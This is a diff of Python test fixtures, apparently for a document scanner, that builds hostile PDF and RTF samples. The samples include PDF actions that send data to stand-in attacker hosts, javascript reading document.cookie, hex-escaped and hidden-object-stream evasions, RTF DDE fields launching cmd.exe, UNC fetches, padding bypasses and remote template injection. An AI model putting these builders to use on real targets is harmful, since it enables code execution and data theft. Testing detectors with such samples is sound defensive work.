@@ -119,6 +119,58 @@ def pdf_with_embedded_file() -> bytes:
     )
 
 
+# The outbound actions of issue 8 (accepted before it): each as it would sit in an /OpenAction, a
+# link annotation's /A or a page's /AA.
+URI_JAVASCRIPT_ACTION = b"<< /S /URI /URI (javascript:app.alert\\(document.cookie\\)) >>"
+URI_ACTION = b"<< /Type /Action /S /URI /URI (https://traceur.example/ouvert?dossier=123) >>"
+SUBMIT_FORM_ACTION = (
+    b"<< /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/collecte) >> /Flags 4 >>"
+)
+IMPORT_DATA_ACTION = b"<< /S /ImportData /F (\\\\\\\\attaquant\\\\partage\\\\donnees.fdf) >>"
+GOTOR_REMOTE_ACTION = (
+    b"<< /S /GoToR /F << /FS /URL /F (https://attaquant.example/suite.pdf) >> /D [0 /Fit] >>"
+)
+HEX_ESCAPED_URI_ACTION = b"<< /S /U#52I /U#52#49 (https://traceur.example/p) >>"
+HEX_ESCAPED_SUBMIT_ACTION = b"<< /S /Sub#6ditF#6frm /F (https://attaquant.example/c) >>"
+OUTBOUND_ACTIONS = {
+    "uri-javascript": URI_JAVASCRIPT_ACTION,
+    "uri": URI_ACTION,
+    "submitform": SUBMIT_FORM_ACTION,
+    "importdata-unc": IMPORT_DATA_ACTION,
+    "gotor-remote": GOTOR_REMOTE_ACTION,
+    "uri-hex-escaped": HEX_ESCAPED_URI_ACTION,
+    "submitform-hex-escaped": HEX_ESCAPED_SUBMIT_ACTION,
+}
+
+
+def pdf_with_open_action(action: bytes) -> bytes:
+    """The action runs when the document opens (object 6)."""
+    return simple_pdf(b" /OpenAction 6 0 R", (action,))
+
+
+def pdf_with_link(action: bytes) -> bytes:
+    """A link annotation on the page; the action runs on a click."""
+    objects = base_objects()
+    objects[2] = objects[2].replace(b" >> >>", b" >> /Annots [6 0 R] >>")
+    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A " + action + b" >>"
+    return build_pdf([*objects, link])
+
+
+def pdf_with_page_action(action: bytes) -> bytes:
+    """A page "open" additional action (/AA /O)."""
+    objects = base_objects()
+    objects[2] = objects[2].replace(b" >> >>", b" >> /AA << /O 6 0 R >> >>")
+    return build_pdf([*objects, action])
+
+
+def pdf_hiding_in_untyped_object_stream(action: bytes) -> bytes:
+    """The action compressed in an object stream whose dictionary says nothing of /Type /ObjStm
+    (only /N and /First): a reader following the cross-reference stream still loads it."""
+    return pdf_with_object_stream(b" /OpenAction 8 0 R", (action,)).replace(
+        b"/Type /ObjStm", b"             "
+    )
+
+
 def encrypted_pdf() -> bytes:
     return simple_pdf(
         extra_objects=(b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>",),
@@ -169,6 +221,50 @@ def rtf_with_dde_field(obfuscated: bool = False) -> bytes:
         b"{\\field{\\*\\fldinst "
         + command
         + b' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt }}'
+    )
+
+
+# The bypasses of issue 8: a field command pushed beyond the first kilobyte by padding that every
+# reader skips, and a template fetched from the network. Each padding is (before, after) the command.
+RTF_PADDINGS = {
+    "spaces": (b" " * 4096, b""),
+    "line-breaks": (b"\r\n" * 2048, b""),
+    "empty-groups": (b"{}" * 2048, b""),
+    "nested-groups": (b"{" * 1500, b"}" * 1500),
+    "control-words": (
+        b"\\rtlch\\fcs1 \\af0 \\hich\\af31506\\dbch\\af31505\\loch\\f31506 \\insrsid1 " * 100,
+        b"",
+    ),
+    "formatting-groups": (b"{\\rtlch\\fcs1 \\af0 \\insrsid2 }" * 300 + b"{\\b ", b"}"),
+    "ignored-destinations": (b"{\\*\\bkmkstart x}{\\*\\bkmkend x}" * 200, b""),
+    "everything": (b" \r\n{}{\\b {\\i \\insrsid3 \r\n " * 400, b"}}" * 400),
+}
+# Commands that run a program (DDE), fetch a file or a URL (the others), with their arguments.
+RTF_ACTIVE_FIELDS = {
+    "DDEAUTO": b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+    "DDE": b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+    "INCLUDEPICTURE": b'"http://traceur.example/p.png" \\\\d',
+    "INCLUDETEXT": b'"\\\\\\\\serveur\\\\partage\\\\x.doc"',
+    "IMPORT": b'"\\\\\\\\attaquant\\\\partage\\\\image.wmf"',
+    "LINK": b'Excel.Sheet.12 "\\\\\\\\attaquant\\\\partage\\\\x.xlsx" "Feuil1" \\\\a',
+    "DATABASE": b'\\\\d "\\\\\\\\attaquant\\\\base.mdb" \\\\s "SELECT 1"',
+    "MACROBUTTON": b"AutoOpen Cliquez ici",
+    "HYPERLINK": b'"https://attaquant.example/"',
+}
+
+
+def rtf_field(command: bytes, arguments: bytes = b"", padding: tuple[bytes, bytes] = (b" ", b"")) -> bytes:
+    """A field whose instruction is padding, command, arguments; its shown result is "x"."""
+    before, after = padding
+    instruction = before + command + after + (b" " + arguments if arguments else b"")
+    return simple_rtf(b"{\\field{\\*\\fldinst" + instruction + b"}{\\fldrslt x}}")
+
+
+def rtf_with_template(path: bytes) -> bytes:
+    """Word fetches the attached template when the file opens (remote template injection)."""
+    return (
+        b"{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}"
+        b"{\\*\\template " + path + b"}\n\\pard\\f0 Compte rendu.\\par\n}"
     )
 
 
